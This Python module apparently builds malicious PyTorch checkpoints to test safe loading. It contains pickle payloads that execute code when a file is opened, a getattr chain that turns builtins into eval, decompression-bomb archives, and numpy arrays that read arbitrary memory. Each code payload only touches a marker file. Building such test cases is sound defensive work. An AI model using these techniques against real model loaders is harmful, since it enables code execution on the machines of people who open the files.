"""Builders of checkpoints that would run code, or corrupt memory, where they are opened without care.

Each of ``ATTACKS`` takes a valid state dict, the file to write, and a marker: a file that exists once code has run.
"""
import io
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function, *args, state=None):
        self.reduced = (function, args) if state is None else (function, args, state)

    def __reduce__(self):
        return self.reduced


def touch(marker: Path) -> Call:
    return Call(exec, f'import pathlib; pathlib.Path({str(marker)!r}).touch()')


def save(state_dict, extra, path: Path, **options) -> None:
    torch.save(dict(extra=extra, state_dict=state_dict), path, **options)


def _save_changed(state_dict, path: Path, change: Callable[[bytes], bytes], compression=zipfile.ZIP_STORED) -> None:
    """Write a good file with a changed pickle."""
    good = io.BytesIO()
    torch.save(state_dict, good)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, 'w', compression) as target:
        for item in source.infolist():
            data = source.read(item)
            target.writestr(item.filename, change(data) if item.filename.endswith('/data.pkl') else data)


def builtin_call_in_an_old_file(state_dict, path: Path, marker: Path) -> None:
    save(state_dict, touch(marker), path, _use_new_zipfile_serialization=False)


def builtin_call_in_a_tar_file(state_dict, path: Path, marker: Path) -> None:
    """PyTorch's first format."""
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
        for name in ('storages', 'tensors', 'pickle'):
            data = pickle.dumps(touch(marker), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))


def chain_of_getattr(state_dict, path: Path, marker: Path) -> None:
    """From ``getattr`` to the module builtins, whose ``type`` becomes ``eval``; BUILD then evaluates a text."""

    def text(value: str) -> bytes:
        return b'X' + struct.pack('<I', len(value.encode())) + value.encode()

    def attribute(owner: bytes, name: str) -> bytes:
        return b'cbuiltins\ngetattr\n' + owner + text(name) + b'\x86R'

    code = (f'import builtins, pathlib\npathlib.Path({str(marker)!r}).touch()\ncalls = [0]\n'
            'def fake(x):\n    calls[0] += 1\n    if calls[0] == 4: builtins.type = int.__class__\n    return set\n'
            'builtins.type = fake')
    module = attribute(b'cbuiltins\ngetattr\n', '__self__')
    prelude = (attribute(module, '__dict__') + text('type') + attribute(module, 'eval') + b's'
               + text(f'[exec({code!r}, dict()), set][1]') + b'Nb')
    _save_changed(state_dict, path, lambda data: data[:2] + prelude + data[2:])


def compressed_archive(state_dict, path: Path, marker: Path) -> None:
    """A small file that would unpack to 64 MiB."""
    _save_changed(state_dict, path, lambda data: data + b'stage0.blocks.'.ljust(2**20, b' ') * 64, zipfile.ZIP_DEFLATED)


def history(**state) -> HistoryBuffer:
    """A history of MMEngine's logs with the given state."""
    history = HistoryBuffer.__new__(HistoryBuffer)
    history.__dict__.update(state)
    return history


RECONSTRUCT, SCALAR = np.zeros(1).__reduce__()[0], np.float64(1).__reduce__()[0]
EMPTY = RECONSTRUCT, np.ndarray, (0,), b'b'
OBJECTS = Call(np.ndarray, (1,), 'O', b'A' * 8)  # its bytes are taken for pointers
RECORD = Call(np.dtype, 'V8', False, True, state=(
    3, '|', None, ('a',), {'a': (Call(np.dtype, 'O', False, True), 0)}, 8, 1, 0))  # flags that deny its object
# What lies beside the weights, made from the marker.
PICKLED = dict(
    builtin_call=touch,
    objects_that_are_bytes=lambda marker: OBJECTS,
    call_through_a_tensor_subclass=lambda marker: Call(
        torch._tensor._rebuild_from_type_v2, Call(getattr, HistoryBuffer, '__init__'), torch.Tensor,
        (touch(marker),), {}),
    bytes_as_objects=lambda marker: Call(*EMPTY, state=(1, (1,), RECORD, False, b'\x01' * 8)),
    objects_in_an_array=lambda marker: np.array([{}, touch(marker)], dtype=object),
    history_without_numbers=lambda marker: history(
        max_length=1, _log_history=OrderedDict(), _count_history=np.ones(1)),
    array_over_any_memory=lambda marker: Call(set, OBJECTS),  # the set follows them while the file is read
    array_of_uninitialised_memory=lambda marker: Call(np.ndarray, (1000,), 'u1'),
    array_longer_than_its_bytes=lambda marker: Call(*EMPTY, state=(1, (1000,), np.dtype('f8'), False, b'12345678')),
    array_without_a_state=lambda marker: Call(*EMPTY),
    array_in_a_set=lambda marker: Call(set, [Call(*EMPTY)]),
    dtype_of_objects=lambda marker: Call(SCALAR, Call(
        np.dtype, 'O', False, True, state=(3, '|', None, None, None, -1, -1, 63)), b'A' * 8),
    scalar_longer_than_its_bytes=lambda marker: Call(SCALAR, np.dtype('f8'), b'1'))


ATTACKS = {
    **{name: lambda state_dict, path, marker, make=make: save(state_dict, make(marker), path)
       for name, make in PICKLED.items()},
    **{function.__name__: function for function in (
        builtin_call_in_an_old_file, builtin_call_in_a_tar_file, chain_of_getattr, compressed_archive)}}
